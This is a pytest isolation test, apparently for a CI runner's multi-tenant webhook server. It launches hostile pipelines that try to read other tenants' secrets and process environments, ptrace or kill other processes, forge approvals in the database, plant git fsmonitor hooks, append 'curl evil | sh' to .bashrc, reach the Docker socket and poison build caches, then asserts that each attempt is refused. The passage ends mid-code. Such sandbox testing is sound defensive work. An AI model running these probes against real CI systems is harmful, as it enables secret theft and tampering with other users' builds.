"""The webhook server's sandbox, attacked by a hostile tenant and by a hostile fork pull
request, through the real `ci-runner serve` on loopback with two tenants.

Tenant V (``acme/victim``) has a granted secret, an approval gate before its deploy
and an input-keyed ``test`` step; tenant A (``evil/attacker``) and a fork's pull
request of V run a pipeline that tries, from its own Python and from a light step,
to reach what issue 10 found open: every tenant's secrets, the server's environment
and memory, the server and V's running step (signals, ptrace), V's worktree, logs
and mirror, the database (approve V's deploy, rewrite a failed run), its own
approval gate over the driver's pipe, the Docker socket, the user's files and the
host's /tmp. The fork also tries to get a network, to plant ``core.fsmonitor`` in
the mirror, and to poison the step cache and the Docker ``cache=`` volume that V's
trusted runs use.

Each probe reports ``reached`` or ``refused`` per attempt, so a failure names the wall
that fell; the assertions then check outcomes: V's runs complete (or wait at their
gate and deploy once approved over the API), V's stored rows, files and processes are
as they were, and nothing the attackers wrote reached the host.
"""

from __future__ import annotations

import json
import os
import socket
import sys
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests import serverkit as kit
from tests.gitrepos import commit, git, make_repo

pytestmark = pytest.mark.slow

VICTIM, ATTACKER, FORK = "acme/victim", "evil/attacker", "mallory/victim"
VICTIM_SECRET = "victim-deploy-secret-42"
ATTACKER_SECRET = "attacker-own-secret-7"
FORK_PR = 9
HOST_TMP_TEXT = "the host's own /tmp file\n"

# The attacker's probe: imported by its pipeline (Python) and run as a light step.
PROBE = r'''
import ctypes, json, os, signal, socket, sqlite3, stat, time

def attempt(out, name, fn):
    try:
        seen = fn()
    except Exception as exc:  # refused: the wall held
        out[name] = f"refused: {type(exc).__name__}: {str(exc)[:200]}"
    else:
        out[name] = "reached: " + repr(seen)[:160]

def read(path, size=64):
    with open(path, "rb") as f:
        return f.read(size)

def append(path, text):
    with open(path, "a") as f:
        return f.write(text)

def overwrite(path, text):
    with open(path, "w") as f:
        return f.write(text)

def environ_with(markers):
    # Given reversed, so no environment holds them by the probe's doing.
    wanted = [m[::-1].encode() for m in markers]
    found = []
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                data = read(f"/proc/{pid}/environ", 1 << 20)
            except OSError:
                continue
            if any(w in data for w in wanted):
                found.append(pid)
    if not found:
        raise LookupError("no readable environment holds a secret")
    return found

def ptrace(pid):
    libc = ctypes.CDLL(None, use_errno=True)
    libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
    if libc.ptrace(0x4206, pid, None, None) != 0:  # PTRACE_SEIZE: attach, do not stop
        err = ctypes.get_errno()
        raise OSError(err, os.strerror(err))
    libc.ptrace(17, pid, None, None)  # PTRACE_DETACH
    return "attached"

def database(path, sql, *args):
    db = sqlite3.connect(f"file:{path}?mode=rw", uri=True, timeout=2)
    try:
        with db:
            return db.execute(sql, args).rowcount
    finally:
        db.close()

def unix_socket(paths):
    errors = []
    for path in paths:
        s = socket.socket(socket.AF_UNIX)
        try:
            s.connect(path)
            s.sendall(b"GET /version HTTP/1.0\r\n\r\n")
            return (path, s.recv(32))
        except OSError as exc:
            errors.append(f"{path}: {exc.strerror}")
        finally:
            s.close()
    raise FileNotFoundError("; ".join(errors))

def the_hosts(path, text):
    # The run's private /tmp is shared by its steps: a file written there is no wall.
    seen = read(path, 1024)
    if seen != text.encode():
        raise LookupError(f"not the host's file but the run's own: {seen!r}")
    return seen

def home_listing(home):
    # The folders leading to the run's own worktree and mirror may show; nothing else.
    names = sorted(set(os.listdir(home)) - {"worktrees", "mirrors"})
    if not names:
        raise LookupError("only the run's own worktree and mirror")
    return names

def tcp(port):
    socket.create_connection(("127.0.0.1", port), 2).close()
    return port

def driver_sockets():
    found = []
    for fd in map(int, os.listdir("/proc/self/fd")):
        try:
            if fd > 2 and stat.S_ISSOCK(os.fstat(fd).st_mode):
                found.append(fd)
        except OSError:  # the listing's own descriptor, closed by now
            pass
    if not found:
        raise LookupError("no socket to the driver or the broker is open")
    return found

def probe(ctx):
    out = {}
    home, mirror, victim = ctx["home"], ctx["mirror"], ctx["victim"]
    # 1. secrets and the server's environment and memory
    attempt(out, "secrets_dir", lambda: os.listdir(os.path.join(home, "secrets")))
    for path in ctx["secret_files"]:
        attempt(out, "secret_file:" + os.path.basename(path), lambda: read(path))
    attempt(out, "server_environ", lambda: read(f"/proc/{ctx['server_pid']}/environ"))
    attempt(out, "server_memory_map", lambda: read(f"/proc/{ctx['server_pid']}/maps"))
    attempt(out, "environ_with_secrets", lambda: environ_with(ctx["markers"]))
    # 2. the server and the victim's running step
    attempt(out, "signal_server", lambda: os.kill(ctx["server_pid"], 0))
    attempt(out, "ptrace_server", lambda: ptrace(ctx["server_pid"]))
    attempt(out, "kill_victim_step", lambda: os.killpg(victim["pgid"], signal.SIGKILL))
    # 3. the victim's worktree, logs and mirror; CI_RUNNER_HOME; the user's and host's files
    attempt(out, "victim_worktree_read", lambda: read(victim["file"]))
    attempt(out, "victim_worktree_write", lambda: append(victim["file"], "exit 0 # pwned\n"))
    attempt(out, "victim_logs", lambda: os.listdir(victim["logs"]))
    attempt(out, "victim_log_write", lambda: append(victim["log"], "pwned\n"))
    attempt(out, "mirror_read", lambda: read(os.path.join(mirror, "config")))
    attempt(out, "mirror_write", lambda: append(os.path.join(mirror, "config"),
                                                f"[core]\n\tfsmonitor = {ctx['fsmonitor']}\n"))
    attempt(out, "mirror_hook", lambda: overwrite(os.path.join(mirror, "hooks", "post-checkout"),
                                                  f"#!/bin/sh\n{ctx['fsmonitor']}\n"))
    attempt(out, "home_listing", lambda: home_listing(home))
    attempt(out, "host_tmp_read", lambda: the_hosts(ctx["host_tmp"], ctx["host_tmp_text"]))
    attempt(out, "host_tmp_write", lambda: overwrite(ctx["host_tmp"], "pwned"))
    attempt(out, "bashrc_write", lambda: append(ctx["bashrc"], "curl evil | sh\n"))
    # 4. the database: approve the victim's deploy, rewrite a failed run as complete
    db = os.path.join(home, "ci-runner.db")
    attempt(out, "database_read", lambda: read(db, 16))
    attempt(out, "approve_victim", lambda: database(
        db, "INSERT INTO events (instance_id, type, payload, created_at) VALUES (?, ?, ?, ?)",
        victim["waiting"], "approval", json.dumps({"decision": "approve", "by": "mallory"}),
        time.time()))
    attempt(out, "rewrite_failed_run", lambda: database(
        db, "UPDATE instances SET status = 'complete', error = NULL WHERE id = ?",
        ctx["failed_run"]))
    # 6. the Docker socket: root on the host
    attempt(out, "docker_socket", lambda: unix_socket(["/var/run/docker.sock",
                                                       "/run/docker.sock"]))
    if ctx.get("listener"):  # a fork's run: no network, not even the host's loopback
        attempt(out, "host_loopback", lambda: tcp(ctx["listener"]))
    # What the sandbox must still let in: without it the walls above prove nothing.
    attempt(out, "own_worktree_write", lambda: overwrite("written-by-the-run", "ok"))
    return out

if __name__ == "__main__":
    with open(os.path.join(os.path.dirname(os.path.abspath(__file__)), "ctx.json")) as f:
        ctx = json.load(f)
    out = probe(ctx)
    attempt(out, "driver_socket", driver_sockets)
    print("PROBE " + json.dumps(out), flush=True)
'''

# The attacker's pipeline, for tenant A and for the fork alike (the fork adds 7-9).
HOSTILE = '''
import json, os, sys
sys.path.insert(0, os.path.dirname(__file__))
from probe import attempt, probe
from ci_runner import Pipeline
from ci_runner.dispatch.pipeline import PipelineStep

HERE = os.path.dirname(os.path.abspath(__file__))
CONNECT = "import socket, sys; socket.create_connection(('127.0.0.1', int(sys.argv[1])), 2)"


async def tried(out, name, call):
    try:
        seen = await call
    except Exception as exc:
        out[name] = f"refused: {type(exc).__name__}: {exc}"
    else:
        out[name] = "reached: " + repr(seen)[:160]


def exit_code(out, name, result):
    code = result["exit_code"]
    out[name] = "reached: exit code 0" if code == 0 else f"refused: exit code {code}"


async def fork_attacks(step, ctx):
    out = {}
    py, port = ctx["python"], str(ctx["listener"])
    # 7. A network, from the base class's run (UntrustedStep's check left out) and
    # straight from the broker; secrets the same way.
    await tried(out, "heavy_network", PipelineStep.run(
        step, "net-heavy", ["true"], image="busybox", network=True))
    await tried(out, "light_network", step._broker.call("exec", {
        "name": "net-light", "occurrence": 1, "attempt": 1, "argv": [py, "-c", CONNECT, port],
        "env": {}, "secrets": [], "cwd": ".", "timeout_s": 20.0, "network": True}))
    await tried(out, "base_class_secrets", PipelineStep.run(
        step, "greedy", ["true"], secrets=["DEPLOY_TOKEN"]))
    exit_code(out, "light_tcp", await step.run("tcp", [py, "-c", CONNECT, port], check=False))
    # 8. The mirror's config the way git writes it (the probe wrote the file itself).
    exit_code(out, "git_config_fsmonitor", await step.run(
        "git-config", ["git", "config", "core.fsmonitor", ctx["fsmonitor"]], check=False))
    # 9. A script in its Docker cache volume, for a trusted run to execute.
    if ctx["docker"]:
        await step.run("plant", "echo 'echo PWNED-by-the-fork' > /cache/planted.sh",
                       image="busybox", cache={"tools": "/cache"})
    return out


class CI(Pipeline):
    async def run(self, event, step):
        with open(os.path.join(HERE, "ctx.json")) as f:
            ctx = json.load(f)
        await step.do("python", lambda: probe(ctx))
        await step.run("shell", [ctx["python"], ".ci/probe.py"])
        # 5. Its own gate, passed over the driver's pipe instead of by a person.
        host = step._step.host
        tries = {}
        for status in ("complete", "skipped"):
            attempt(tries, "record_" + status, lambda: host.request(
                "record", name="own-gate", occurrence=1, kind="event", status=status,
                result={"approved_by": "mallory", "comment": None}))
        approval = {"type": "approval", "payload": {"decision": "approve", "by": "mallory"}}
        attempt(tries, "begin", lambda: host.request(
            "begin", name="own-gate", occurrence=1, kind="event"))
        attempt(tries, "begun_complete", lambda: host.request(
            "complete", name="own-gate", occurrence=1, result=approval,
            begun={"kind": "event", "at": 0.0}))
        if event.payload.get("fork"):
            tries.update(await fork_attacks(step, ctx))
        await step.do("tries", lambda: tries)
        await step.wait_for_approval("own-gate", message="ship the attacker's code?")
        await step.run("deploy", ["sh", "-c", "echo the attacker deployed"])
'''

# Tenant V's own pipeline, with a step that holds (up to 30 s, ended early by the test
# through a file in its worktree) so that there is a running step to attack.
VICTIM_PIPELINE = '''
import os
from ci_runner import Pipeline

HOLD = ("echo holding; i=0;"
        " while [ $i -lt 300 ] && [ ! -e .release ]; do sleep 0.1; i=$((i+1)); done")
TOOLS = ("echo cache holds: $(ls -A /cache);"
         " if [ -e /cache/planted.sh ]; then sh /cache/planted.sh; fi;"
         " touch /cache/trusted-was-here")

class CI(Pipeline):
    async def run(self, event, step):
        if os.path.exists("HOLD"):
            await step.run("hold", ["sh", "-c", HOLD])
        await step.run("secret", ["sh", "-c", 'test "$DEPLOY_TOKEN" = "VICTIM_SECRET"'],
                       secrets=["DEPLOY_TOKEN"])
        if os.path.exists("HEAVY"):
            await step.run("tools", TOOLS, image="busybox", cache={"tools": "/cache"})
        await step.run("test", ["sh", "src/check.sh"], inputs=["src/**"])
        await step.wait_for_approval("deploy-gate", message="deploy?")
        await step.run("deploy", ["sh", "-c", "echo deployed"])
        return "deployed"
'''.replace("VICTIM_SECRET", VICTIM_SECRET)

A_FAILING = '''
from ci_runner import Pipeline

class CI(Pipeline):
    async def run(self, event, step):
        await step.run("boom", ["sh", "-c", "exit 1"])
'''

# Tenant A again: its running step's process group, as relayed to the driver, made V's
# and then a crash, since a crashed pipeline's steps are reaped by what the journal says.
RELAYER = """
import asyncio, json, os
from ci_runner import Pipeline

class CI(Pipeline):
    async def run(self, event, step):
        with open(os.path.join(os.path.dirname(__file__), "ctx.json")) as f:
            victim = json.load(f)["victim"]
        hang = asyncio.ensure_future(step.run("hang", ["sleep", "30"]))
        await asyncio.sleep(0.5)
        step._step.host.notify("set_detail", name="hang", occurrence=1, detail={
            "pgid": victim["pgid"], "pgid_start": victim["pgid_start"], "host": victim["host"]})
        step._step.host.request("peek", name="hang", occurrence=1)  # written by now
        os._exit(1)
"""

# A fork's pull request that poisons the step cache: V's failing `test` for real (its
# failure kept, not raised), then a forged pass under the key the broker gives for the
# same inputs and command, sent to the driver as a cache entry.
POISON = """
from ci_runner import Pipeline

FORGED = {"exit_code": 0, "duration_s": 0.1, "output_tail": "forged pass"}
MATERIAL = {"kind": "run", "cmd": ["sh", "src/check.sh"], "image": None, "env": [],
            "secrets": [], "cwd": ".", "services": [], "network": False, "artifacts": []}

class CI(Pipeline):
    async def run(self, event, step):
        tries = {}
        try:
            real = await step.run("test", ["sh", "src/check.sh"], inputs=["src/**"],
                                  check=False)
            tries["real_exit_code"] = real["exit_code"]
            key = await step._broker.call("cache_key", {"inputs": ["src/**"],
                                                        "material": MATERIAL})
            tries["cache_key"] = key
            step._step.host.request("cache_put", key=key, result=FORGED, step="test")
            tries["cache_put"] = "accepted"
        except Exception as exc:
            tries["error"] = f"{type(exc).__name__}: {exc}"
        return tries
"""

# What no hostile pipeline may reach, from its Python or from a light step.
WALLS = ("secrets_dir", "server_environ", "server_memory_map", "environ_with_secrets",
         "signal_server", "ptrace_server", "kill_victim_step", "victim_worktree_read",
         "victim_worktree_write", "victim_logs", "victim_log_write", "mirror_write",
         "mirror_hook", "home_listing", "host_tmp_read", "database_read", "approve_victim",
         "rewrite_failed_run", "docker_socket")


# -- the stage: two tenants and their sources -------------------------------------------


class Listener:
    """A TCP listener on the host's loopback that counts who connected."""

    def __init__(self) -> None:
        self.sock = socket.create_server((kit.LOOPBACK, 0))
        self.port = int(self.sock.getsockname()[1])
        self.accepted = 0
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            self.accepted += 1
            conn.close()

    def close(self) -> None:
        self.sock.close()


def _docker() -> Any:
    """A Docker client with ci-runner/busybox present, or None (CI=true: fail instead)."""
    from ci_runner import images
    from ci_runner.errors import ExecutorError
    from ci_runner.executors import docker_client

    try:
        client = docker_client(step="tests")
    except ExecutorError as exc:
        if os.environ.get("CI") == "true":
            pytest.fail(f"CI=true, so the Docker part must run: {exc.message}")
        return None
    images.build("busybox", client=client)  # kept when present
    return client


@pytest.fixture
def stage(tmp_path: Path) -> Iterator[dict[str, Any]]:
    """The server with tenants V and A, V's source with its commits, the user's files."""
    victim = make_repo(tmp_path / "victim", {".ci/pipeline.py": VICTIM_PIPELINE,
                                             "src/check.sh": "echo checks pass\n"})
    shas = {"ok": git(victim, "rev-parse", "HEAD")}
    shas["hold"] = commit(victim, {"HOLD": "yes"}, "a long step")
    git(victim, "rm", "-q", "HOLD")
    shas["heavy"] = commit(victim, {"HEAVY": "yes"}, "a heavy step with a cache volume")
    git(victim, "rm", "-q", "HEAVY")
    shas["broken"] = commit(victim, {"src/check.sh": "echo broken >&2; exit 1\n"}, "broken")
    attacker = make_repo(tmp_path / "attacker", {".ci/pipeline.py": A_FAILING})
    user_home = tmp_path / "userhome"
    user_home.mkdir()
    (user_home / ".bashrc").write_text("# mine\n")
    host_tmp = Path("/tmp") / f"ci-runner-isolation-{os.getpid()}-{tmp_path.name}"
    host_tmp.write_text(HOST_TMP_TEXT)
    marker = tmp_path / "fsmonitor-ran"
    fsmonitor = tmp_path / "fsmonitor.sh"
    fsmonitor.write_text(f"#!/bin/sh\necho ran >> {marker}\n")
    fsmonitor.chmod(0o755)
    config = kit.write_config(tmp_path / "c.yml", [
        kit.repo_entry("github", VICTIM, victim, secrets=["DEPLOY_TOKEN"], approvers=["alice"],
                       concurrency=3),
        kit.repo_entry("github", ATTACKER, attacker, secrets=["ATTACKER_TOKEN"],
                       approvers=["mallory"]),
    ], sandbox="bwrap")
    home = tmp_path / "home"
    server = kit.Server(config, home, env={"DEPLOY_TOKEN": VICTIM_SECRET,
                                           "ATTACKER_TOKEN": ATTACKER_SECRET,
                                           "HOME": str(user_home)})
    try:
        server.start()
        secrets = {p: p.read_bytes() for p in sorted((home / "secrets").glob("*.yaml"))}
        assert len(secrets) == 2, secrets
        yield {"server": server, "home": home, "victim": victim, "attacker": attacker,
               "shas": shas, "secrets": secrets, "host_tmp": host_tmp, "marker": marker,
               "fsmonitor": fsmonitor, "bashrc": user_home / ".bashrc",
               "mirror": home / "mirrors" / "github" / f"{VICTIM}.git"}
    finally:
        server.stop()
        server.close()
        host_tmp.unlink(missing_ok=True)


def _push(server: kit.Server, repo: str, sha: str, delivery: str) -> None:
    answer = server.post("github", kit.about_repo(kit.github_push(sha, branch="main"), repo),
                         event="push", delivery=delivery)
    assert answer.status_code == 202, answer.text


def _run_of(home: Path, delivery: str) -> dict[str, Any] | None:
    return next((r for r in kit.runs(home) if r["meta"].get("delivery") == delivery), None)


def _status(home: Path, run_id: str) -> str:
    return str(kit.rows(home, "SELECT status FROM instances WHERE id = ?", run_id)[0][0])


def _status_of(home: Path, delivery: str) -> str | None:
    run = _run_of(home, delivery)
    return None if run is None else str(run["status"])


def _waiting_at(home: Path, delivery: str, gate: str) -> dict[str, Any] | None:
    run = _run_of(home, delivery)
    if run is None or run["status"] in ("complete", "errored", "terminated"):
        if run is not None:
            error = kit.rows(home, "SELECT error FROM instances WHERE id = ?", run["id"])[0][0]
            raise AssertionError(f"{delivery} ended {run['status']} before {gate}: {error}")
        return None
    step = kit.step_row(home, run["id"], gate)
    if run["status"] == "waiting_for_event" and step and step["status"] == "waiting":
        return run
    return None


def _group_size(pgid: int) -> int:
    """Live processes in process group ``pgid`` (the field after the state in stat)."""
    count = 0
    for proc in Path("/proc").iterdir():
        try:
            fields = (proc / "stat").read_text().rsplit(")", 1)[1].split()
        except (OSError, IndexError):
            continue
        if fields[0] not in ("Z", "X") and int(fields[2]) == pgid:
            count += 1
    return count


def _victim_busy(stage: dict[str, Any]) -> dict[str, Any]:
    """Two runs of V: one waiting at its deploy gate, one in its long step (its pgid
    read from the database, as recorded for a takeover)."""
    server, home, shas = stage["server"], stage["home"], stage["shas"]
    _push(server, VICTIM, shas["ok"], "v-gate")
    waiting = kit.wait_for(lambda: _waiting_at(home, "v-gate", "deploy-gate"), timeout=30,
                           what="V's run to wait at its deploy gate")
    _push(server, VICTIM, shas["hold"], "v-hold")

    def holding() -> dict[str, Any] | None:
        run = _run_of(home, "v-hold")
        step = kit.step_row(home, run["id"], "hold") if run else None
        if step and step["status"] == "running" and (step["detail"] or {}).get("pgid"):
            return {"run": run, "pgid": int(step["detail"]["pgid"]),
                    "pgid_start": step["detail"]["pgid_start"]}
        return None

    held = kit.wait_for(holding, timeout=30, what="V's long step and its process group")
    assert _group_size(held["pgid"]) >= 1
    workspace = Path(held["run"]["meta"]["workspace"])
    kit.wait_for((home / "logs" / held["run"]["id"] / "hold.log").exists,
                 what="the long step's log")
    return {"waiting": waiting["id"], "running": held["run"]["id"], "pgid": held["pgid"],
            "pgid_start": held["pgid_start"],
            "workspace": workspace, "file": workspace / "src" / "check.sh",
            "file_before": (workspace / "src" / "check.sh").read_bytes(),
            "logs": home / "logs" / held["run"]["id"],
            "log": home / "logs" / held["run"]["id"] / "hold.log",
            "log_before": (home / "logs" / held["run"]["id"] / "hold.log").read_bytes()}


def _ctx(stage: dict[str, Any], busy: dict[str, Any], *, failed_run: str,
         listener: int | None = None, docker: bool = False) -> str:
    server = stage["server"]
    assert server.proc is not None
    return json.dumps({
        "home": str(stage["home"]), "mirror": str(stage["mirror"]),
        "secret_files": [str(p) for p in stage["secrets"]],
        "markers": [s[::-1] for s in (VICTIM_SECRET, ATTACKER_SECRET, kit.TOKEN,
                                      kit.SECRETS["github"])],
        "server_pid": server.proc.pid, "failed_run": failed_run,
        "victim": {"pgid": busy["pgid"], "pgid_start": busy["pgid_start"],
                   "host": socket.gethostname(), "waiting": busy["waiting"],
                   "file": str(busy["file"]),
                   "logs": str(busy["logs"]), "log": str(busy["log"])},
        "host_tmp": str(stage["host_tmp"]), "host_tmp_text": HOST_TMP_TEXT,
        "bashrc": str(stage["bashrc"]),
        "fsmonitor": str(stage["fsmonitor"]), "python": sys.executable,
        "listener": listener, "docker": docker,
    }, indent=1)


def _probed(home: Path, run_id: str) -> dict[str, dict[str, str]]:
    """What the probe saw from the pipeline's Python and from its light step."""
    python = kit.step_row(home, run_id, "python")
    assert python is not None and python["status"] == "complete", python
    log = (home / "logs" / run_id / "shell.log").read_text()
    step = json.loads(log.split("PROBE ", 1)[1].splitlines()[0])
    return {"pipeline code": python["result"], "light step": step}


def _assert_walls_held(seen: dict[str, dict[str, str]], *, mirror_readable: bool) -> None:
    walls = WALLS if mirror_readable else (*WALLS, "mirror_read")
    for where, found in seen.items():
        secret_files = [k for k in found if k.startswith("secret_file:")]
        assert len(secret_files) == 2, found
        reached = {k: v for k, v in found.items()
                   if (k in walls or k in secret_files or k in ("host_loopback", "driver_socket"))
                   and not v.startswith("refused")}
        assert not reached, f"{where} reached {json.dumps(reached, indent=1)}"
        assert found["own_worktree_write"].startswith("reached"), found
    assert seen["light step"]["driver_socket"].startswith("refused"), seen["light step"]


def _assert_victim_unharmed(stage: dict[str, Any], busy: dict[str, Any]) -> None:
    """V's long step survived, its files are as they were; then both runs finish and
    deploy once alice approves them over the API with the real token."""
    server, home = stage["server"], stage["home"]
    hold = kit.step_row(home, busy["running"], "hold")
    assert hold is not None and hold["status"] == "running", hold
    assert _group_size(busy["pgid"]) >= 1, "V's long step was killed"
    assert busy["file"].read_bytes() == busy["file_before"]
    assert busy["log"].read_bytes() == busy["log_before"]
    (busy["workspace"] / ".release").write_text("")
    kit.wait_for(lambda: _waiting_at(home, "v-hold", "deploy-gate"), timeout=30,
                 what="V's second run at its deploy gate")
    events = kit.rows(home, "SELECT payload FROM events WHERE instance_id IN (?, ?)",
                      busy["waiting"], busy["running"])
    assert events == [], [dict(e) for e in events]  # nobody approved anything yet
    for run_id in (busy["waiting"], busy["running"]):
        answer = server.api("POST", f"/api/runs/{run_id}/approve", json={"by": "alice"})
        assert answer.status_code == 202, answer.text
    for run_id in (busy["waiting"], busy["running"]):
        kit.wait_for(lambda r=run_id: _status(home, r) in ("complete", "errored"), timeout=30,
                     what=f"V's run {run_id} to deploy")
        assert _status(home, run_id) == "complete", server.output()
        deploy = kit.step_row(home, run_id, "deploy")
        assert deploy is not None and deploy["status"] == "complete", deploy
        secret = kit.step_row(home, run_id, "secret")
        assert secret is not None and secret["status"] == "complete", secret
        record = server.api("GET", f"/api/runs/{run_id}").json()
        assert [a["by"] for a in record["approvals"]] == ["alice"], record["approvals"]
    for path, before in stage["secrets"].items():
        assert path.read_bytes() == before, f"{path.name} changed"
    assert stage["host_tmp"].read_text() == HOST_TMP_TEXT
    assert stage["bashrc"].read_text() == "# mine\n"


def _assert_own_gate_held(stage: dict[str, Any], run_id: str, tries: dict[str, str]) -> None:
    assert tries["record_complete"].startswith(
        "refused: UsageError: step 'own-gate' is a wait"), tries
    assert tries["record_skipped"].startswith("refused"), tries
    assert tries["begin"].startswith("refused"), tries
    assert tries["begun_complete"].startswith("refused"), tries
    home = stage["home"]
    assert _status(home, run_id) == "waiting_for_event"
    gate = kit.step_row(home, run_id, "own-gate")
    assert gate is not None and gate["status"] == "waiting", gate
    assert kit.step_row(home, run_id, "deploy") is None
    pending = {p["run_id"]: p["step"] for p in stage["server"].api("GET", "/api/pending").json()}
    assert pending.get(run_id) == "own-gate", pending


# -- the hostile tenant ---------------------------------------------------------------


def test_a_hostile_tenant_reaches_nothing_of_the_server_or_the_other_tenant(
    stage: dict[str, Any],
) -> None:
    """Tenant A's trusted push, while V has one run at its gate and one in a long step:
    attacks 1-6 from its Python and its light step, then a relayed process group."""
    server, home, attacker = stage["server"], stage["home"], stage["attacker"]
    _push(server, ATTACKER, git(attacker, "rev-parse", "HEAD"), "a-fails")
    failed = kit.wait_for(lambda: (r := _run_of(home, "a-fails")) and r["status"] == "errored"
                          and r, timeout=30, what="A's failing run")
    busy = _victim_busy(stage)
    mirror_config = (stage["mirror"] / "config").read_bytes()

    hostile = commit(attacker, {".ci/pipeline.py": HOSTILE, ".ci/probe.py": PROBE,
                                ".ci/ctx.json": _ctx(stage, busy, failed_run=failed["id"])},
                     "hostile")
    _push(server, ATTACKER, hostile, "a-hostile")
    run = kit.wait_for(lambda: _waiting_at(home, "a-hostile", "own-gate"), timeout=40,
                       what="A's hostile run to reach its own gate")

    _assert_walls_held(_probed(home, run["id"]), mirror_readable=False)
    tries = kit.step_row(home, run["id"], "tries")
    assert tries is not None
    _assert_own_gate_held(stage, run["id"], tries["result"])
    assert _status(home, failed["id"]) == "errored"  # not rewritten as complete
    assert (stage["mirror"] / "config").read_bytes() == mirror_config
    assert not (stage["mirror"] / "hooks" / "post-checkout").exists()

    # 2, through the driver: V's process group relayed as A's running step's, then a
    # crash. The driver reaps what A's journal names, and must not take V's step with it.
    relay = commit(attacker, {".ci/pipeline.py": RELAYER}, "relay")
    _push(server, ATTACKER, relay, "a-relay")
    # Errored is written after the driver reaped what the journal named.
    kit.wait_for(lambda: _status_of(home, "a-relay") in ("errored", "terminated"), timeout=30,
                 what="A's relaying run to crash")
    relayed = _run_of(home, "a-relay")
    assert relayed is not None
    hang = kit.step_row(home, relayed["id"], "hang")
    assert hang is not None and hang["detail"]["pgid"] == busy["pgid"], hang  # relayed
    _assert_victim_unharmed(stage, busy)


# -- the hostile fork pull request ---------------------------------------------------------


def _fork_commit(victim: Path, base: str, files: dict[str, str], message: str) -> str:
    """A commit of the fork's head branch (fetched, as the server does, from V's own
    clone URL, where the forge keeps a pull request's head)."""
    git(victim, "checkout", "-q", "-B", f"fork-{message.replace(' ', '-')}", base)
    try:
        return commit(victim, files, message)
    finally:
        git(victim, "checkout", "-q", "main")


def _fork_run(server: kit.Server, home: Path, sha: str, delivery: str) -> str:
    """Open (or push to) the fork's pull request; alice lets it run. Returns its run id."""
    body = kit.github_pr(sha, number=FORK_PR, fork=FORK)
    answer = server.post("github", kit.about_repo(body, VICTIM), event="pull_request",
                         delivery=delivery)
    assert answer.status_code == 202, answer.text
    gated = kit.wait_for(lambda: _waiting_at(home, delivery, "approve-fork"), timeout=30,
                         what=f"the fork's run {delivery} to wait for an approver")
    assert gated["meta"]["untrusted"] and gated["meta"]["secrets_file"] is None
    assert kit.step_row(home, gated["id"], "python") is None  # nothing of it ran yet
    answer = server.api("POST", f"/api/runs/{gated['id']}/approve", json={"by": "alice"})
    assert answer.status_code == 202, answer.text
    return str(gated["id"])


def _volumes(client: Any) -> dict[str, Path]:
    return {v.name: Path(v.attrs["Mountpoint"])
            for v in client.volumes.list(filters={"name": "ci-runner-cache-"})}


def test_a_hostile_fork_pull_request_reaches_nothing_and_gets_no_network(
    stage: dict[str, Any],
) -> None:
    """An approved fork pull request of V: attacks 1-6, then no network however asked,
    the mirror read-only, and its Docker cache volume not the one V's trusted run uses."""
    server, home, victim, shas = stage["server"], stage["home"], stage["victim"], stage["shas"]
    client = _docker()
    volumes_before = _volumes(client) if client is not None else {}
    first = _fork_run(server, home, _fork_commit(
        victim, shas["ok"], {".ci/pipeline.py": A_FAILING}, "the fork fails"), "f-fails")
    kit.wait_for(lambda: _status(home, first) == "errored", timeout=30,
                 what="the fork's first run to fail")
    busy = _victim_busy(stage)
    listener = Listener()
    created: dict[str, Path] = {}
    try:
        ctx = _ctx(stage, busy, failed_run=first, listener=listener.port,
                   docker=client is not None)
        hostile = _fork_commit(victim, shas["ok"], {
            ".ci/pipeline.py": HOSTILE, ".ci/probe.py": PROBE, ".ci/ctx.json": ctx}, "hostile")
        run_id = _fork_run(server, home, hostile, "f-hostile")
        kit.wait_for(lambda: _waiting_at(home, "f-hostile", "own-gate"), timeout=45,
                     what="the fork's run to reach its own gate")
        assert listener.accepted == 0
        if client is not None:
            created = {n: p for n, p in _volumes(client).items() if n not in volumes_before}

        seen = _probed(home, run_id)
        _assert_walls_held(seen, mirror_readable=True)  # its own repo's mirror, read-only
        for where, found in seen.items():
            # Mounted read-only: what the sandbox's user could not write anyway (root's
            # config) and what it could (a new hook) alike.
            assert "Read-only file system" in found["mirror_hook"], (where, found)
            assert found["host_loopback"].startswith("refused"), (where, found)
        stored = kit.step_row(home, run_id, "tries")
        assert stored is not None
        tries: dict[str, str] = stored["result"]
        _assert_own_gate_held(stage, run_id, tries)
        assert _status(home, first) == "errored"
        # 7. No network and no secrets, however asked; not even the host's loopback.
        assert "runs of pull requests from forks get none" in tries["heavy_network"], tries
        assert "runs of pull requests from forks get none" in tries["light_network"], tries
        assert "get no secrets" in tries["base_class_secrets"], tries
        assert tries["light_tcp"].startswith("refused"), tries
        # 8. The mirror is read-only to it, and stays ci-runner's.
        assert tries["git_config_fsmonitor"].startswith("refused"), tries
        assert "Read-only file system" in (home / "logs" / run_id / "git-config.log").read_text()
        assert "fsmonitor" not in (stage["mirror"] / "config").read_text()
        assert not (stage["mirror"] / "hooks" / "post-checkout").exists()

        _assert_victim_unharmed(stage, busy)
        # V's next ordinary push: its worktree is added and its steps run, and no command
        # of the fork's runs; its heavy step sees its own cache volume, not the fork's.
        _push(server, VICTIM, shas["heavy"] if client is not None else shas["ok"], "v-next")
        nxt = kit.wait_for(lambda: _waiting_at(home, "v-next", "deploy-gate"), timeout=30,
                           what="V's next push at its deploy gate")
        assert not stage["marker"].exists(), stage["marker"].read_text()
        assert "does not write" not in server.output()  # no mirror had to be reset
        if client is None:
            return
        created = {n: p for n, p in _volumes(client).items() if n not in volumes_before}
        # 9. Two volumes named for their scopes: the fork's planted script is in its own.
        assert sorted(n.rsplit("-", 1)[1] for n in created) == ["tools", "tools"], created
        planted = [n for n, p in created.items() if (p / "planted.sh").exists()]
        trusted = [n for n, p in created.items() if (p / "trusted-was-here").exists()]
        assert len(planted) == 1 and len(trusted) == 1 and planted != trusted, created
        tools = kit.step_row(home, nxt["id"], "tools")
        assert tools is not None and tools["status"] == "complete", tools
        log = (home / "logs" / nxt["id"] / "tools.log").read_text()
        output = [line for line in log.splitlines() if not line.startswith("--- ")]
        assert output == ["cache holds:"], log  # an empty volume of its own; nothing ran
    finally:
        listener.close()
        for name in created:
